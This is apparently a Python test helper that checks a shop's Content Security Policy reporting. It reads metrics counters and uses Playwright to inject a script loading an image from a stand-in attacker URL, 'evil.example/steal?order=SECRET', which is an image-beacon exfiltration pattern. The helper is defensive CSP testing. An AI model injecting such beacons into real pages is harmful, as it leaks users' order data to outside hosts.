"""Violations of the content policy that browsers report, as the shop's metrics count them."""

import requests
from playwright.sync_api import Page

#: How often the counts are read until one has risen, and the milliseconds in between.
MAX_READS, PAUSE = 100, 100

FOREIGN_IMAGE = "https://evil.example/steal?order=SECRET"

#: Lets a page load an image of another site.
LOAD_FOREIGN_IMAGE = f"""() => {{
  const image = document.createElement("img")
  image.src = "{FOREIGN_IMAGE}"
  document.body.append(image)
}}"""


class CspReports:
    """The counts of one shop."""

    def __init__(self, url: str, *, host: str | None = None, authority: str | None = None) -> None:
        self._url = url
        self._headers = {"Host": host} if host else {}
        self._verify = authority or True

    def counts(self) -> dict[str, float]:
        """How often each directive was reported."""
        answer = requests.get(
            f"{self._url}/metrics", headers=self._headers, verify=self._verify, timeout=10
        )
        lines = [line for line in answer.text.splitlines() if line.startswith("shop_csp_reports{")]
        return {line.split('"')[1]: float(line.split()[-1]) for line in lines}

    def rises(self, page: Page, directive: str, before: dict[str, float]) -> bool:
        """Whether the count of a directive rises within ten seconds."""
        for _ in range(MAX_READS):
            if self.counts().get(directive, 0) > before.get(directive, 0):
                return True
            page.wait_for_timeout(PAUSE)  # the browser goes on meanwhile
        return False
